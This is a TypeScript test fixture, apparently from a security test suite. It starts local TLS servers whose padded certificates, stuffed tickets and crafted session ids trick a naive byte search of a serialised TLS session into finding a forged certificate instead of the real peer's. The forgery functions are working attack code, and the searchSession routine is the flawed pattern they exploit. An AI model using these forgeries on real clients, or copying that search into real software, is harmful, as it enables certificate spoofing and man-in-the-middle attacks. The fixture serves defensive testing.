// Servers whose certificates, session ids and tickets are laid out so that a search of the client's serialised TLS session
// (d2i_SSL_SESSION(3)) ends at another certificate than the peer's. Knows nothing of the program.
import { createPrivateKey, randomBytes, X509Certificate } from 'node:crypto';
import { once } from 'node:events';
import tls from 'node:tls';
import { LAB_HOST, type LabCertificate, labRootPem, makeCertificate } from '../../../src/lab/certificates.ts';
import { startTls12Server, type Tls12Config, type Tls12Server } from './tls12-server.ts';

/** The attacker has an ordinary certificate of a trusted authority for this name, and not for the host's. */
export const ATTACKER = 'attacker.test';

export type TlsVersion = 'TLSv1.2' | 'TLSv1.3';
export type Talk = Pick<Tls12Config, 'greeting' | 'answer' | 'ready'>;

export interface Forgery {
  readonly start: (talk: Talk) => Promise<Tls12Server>;
  /** What a search takes for the peer's certificate. */
  readonly found: Buffer | null;
}

interface Shown {
  readonly certificate: LabCertificate;
  readonly sessionId?: Buffer;
  readonly ticket?: Buffer;
}

/** The first SEQUENCE of 256 bytes to 64 KiB in a session, if it fills it to its end, and the first [3] in that. */
export function searchSession(session: Buffer): Buffer | null {
  const at = session.indexOf(Buffer.from([0x30, 0x82]));
  if (at < 0 || at + 4 + session.readUInt16BE(at + 2) !== session.length) return null;
  for (let field = at + 4; field + 5 <= session.length; ) {
    const first = session.readUInt8(field + 1);
    const lengthBytes = first < 0x80 ? 0 : Math.min(first & 0x7f, 3);
    const start = field + 2 + lengthBytes;
    const length = lengthBytes === 0 ? first : session.readUIntBE(field + 2, lengthBytes);
    if (session[field] === 0xa3) return session.subarray(start, start + length);
    field = start + length;
  }
  return null;
}

/** What such a search follows: a SEQUENCE to the session's end, and a string over all that stands ahead of the target. */
function pointer(toEnd: number, toTarget: number): Buffer {
  const bytes = Buffer.from('3082000004820000', 'hex');
  bytes.writeUInt16BE(toEnd & 0xffff, 2);
  bytes.writeUInt16BE(toTarget & 0xffff, 6);
  return bytes;
}

/** [3], as the session holds the peer's certificate, around this one. */
export function targetOf(der: Buffer): Buffer {
  const header = Buffer.from([0xa3, 0x82, 0, 0]);
  header.writeUInt16BE(der.length, 2);
  return Buffer.concat([header, der]);
}

export const dersOf = ({ chainPem }: LabCertificate): Buffer[] =>
  (chainPem.match(/-----BEGIN[\s\S]*?-----END CERTIFICATE-----/g) ?? []).map((pem) => new X509Certificate(pem).raw);

/** About 25 bytes a name. Its own key: one that happens to have the bytes searched for would spoil every other round, too. */
export const attackerCertificate = (names: number, ...extensions: readonly Buffer[]): LabCertificate =>
  makeCertificate({
    subject: ATTACKER,
    ownKey: true,
    names: [ATTACKER, ...Array.from({ length: names }, (_, index) => `host-${index}.${ATTACKER}`)],
    extensions: extensions.map((value, index) => ({ id: `1.3.6.1.4.1.32473.${index + 1}`, value })),
  });

const handMade = ({ certificate, ...more }: Shown, talk: Talk): Promise<Tls12Server> =>
  startTls12Server({ certificates: dersOf(certificate), key: createPrivateKey(certificate.keyPem), ...more, ...talk });

/** Node's own server, which any attacker has at hand. */
const library =
  (version: TlsVersion) =>
  async ({ certificate: { chainPem, keyPem } }: Shown, { ready, greeting, answer }: Talk): Promise<Tls12Server> => {
    const lines: string[] = [];
    const server = tls.createServer({
      cert: chainPem,
      key: keyPem,
      minVersion: version,
      maxVersion: version,
      SNICallback: (_, proceed) => void Promise.resolve(ready).then(() => proceed(null)),
    });
    server.on('tlsClientError', () => {});
    server.on('secureConnection', (socket) => {
      socket.on('error', () => {});
      socket.write(greeting);
      socket.on('data', (bytes: Buffer) => {
        for (const line of bytes.toString('latin1').split('\r\n').filter(Boolean)) {
          lines.push(line);
          const said = answer(line);
          if (said === null) socket.end();
          else socket.write(said);
        }
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const address = server.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    return { port, lines, close: () => new Promise((resolve) => server.close(() => resolve())) };
  };

type Starter = typeof handMade;

async function sessionWith(shown: Shown, start: Starter): Promise<Buffer> {
  const server = await start(shown, { greeting: '', answer: () => null });
  try {
    const socket = tls.connect({
      host: '127.0.0.1',
      port: server.port,
      servername: LAB_HOST,
      ca: labRootPem(),
      checkServerIdentity,
    });
    await once(socket, 'secureConnect');
    const session = socket.getSession() ?? Buffer.alloc(0);
    socket.destroy();
    await once(socket, 'close');
    return session;
  } finally {
    await server.close();
  }
}
const checkServerIdentity = (): undefined => undefined;

/** Where the session itself begins: newer Node puts a header in ASCII ahead of it. */
const startOf = (session: Buffer): number =>
  Math.min(...[0x82, 0x83].map((length) => session.indexOf(Buffer.from([0x30, length]))).filter((at) => at >= 0));

/**
 * Connects, sees where the bytes have come to lie, and points anew: signatures differ in length. `wholeLength`: what the
 * session must have, give or take four bytes; `build` is told how many to add.
 */
async function forge(
  genuine: Buffer,
  start: Starter,
  build: (aimed: Buffer, padding: number) => Shown,
  wholeLength?: number,
): Promise<Forgery> {
  let [aimed, padding] = [pointer(0, 0), 0];
  for (let round = 1; ; round++) {
    const shown = build(aimed, padding);
    const session = await sessionWith(shown, start);
    const found = searchSession(session);
    if (found?.equals(genuine) || round === 50) return { start: (talk) => start(shown, talk), found };
    const at = session.indexOf(aimed);
    const lacking = wholeLength === undefined ? 0 : wholeLength - (session.length - startOf(session));
    if (Math.abs(lacking) > 4) padding += lacking;
    aimed = pointer(session.length - at - 4, session.indexOf(targetOf(genuine)) - at - 8);
  }
}

/** All in a certificate of more than 64 KiB, whose own header is of another length: it takes no tricks of TLS. */
export const forgeByCertificate = (genuine: Buffer, version: TlsVersion): Promise<Forgery> =>
  forge(genuine, library(version), (aimed) => ({ certificate: attackerCertificate(3500, aimed, targetOf(genuine)) }));

/**
 * The certificate is one that an authority might issue but for eight bytes; the genuine one comes in the ticket. The client
 * hashes the ticket into a session id, which stands ahead of all: no two rounds have the same.
 */
export const forgeByTicket = (genuine: Buffer): Promise<Forgery> =>
  forge(genuine, handMade, (aimed) => ({
    certificate: attackerCertificate(3500, aimed),
    ticket: Buffer.concat([Buffer.alloc(20_000), targetOf(genuine), Buffer.alloc(20_000), randomBytes(8)]),
  }));

/** Just over 64 KiB in all, and just under it from the session id on, which the server chooses. */
export const forgeBySessionId = (genuine: Buffer): Promise<Forgery> =>
  forge(
    genuine,
    handMade,
    (aimed, padding) => ({
      certificate: attackerCertificate(2400, Buffer.alloc(padding), targetOf(genuine)),
      sessionId: Buffer.concat([aimed, Buffer.alloc(24)]),
    }),
    65_546,
  );

/** An ordinary certificate, and a ticket as long as may be, full of the genuine one in every form that a session knows. */
export async function forgeByFullTicket(genuine: Buffer): Promise<Forgery> {
  const piece = Buffer.concat([pointer(0xffff, 0), targetOf(genuine), pointer(targetOf(genuine).length, 0), targetOf(genuine)]);
  const ticket = Buffer.alloc(65_535, piece);
  return { start: (talk) => handMade({ certificate: attackerCertificate(0), ticket }, talk), found: null };
}

/** The attacker's, with as many bytes, give or take two. */
export function certificateOfLength(length: number): LabCertificate {
  let certificate = attackerCertificate(2400);
  for (let [round, padding] = [0, 0]; round < 4; round++) {
    padding += length - (dersOf(certificate)[0]?.length ?? 0);
    certificate = attackerCertificate(2400, Buffer.alloc(padding));
  }
  return certificate;
}
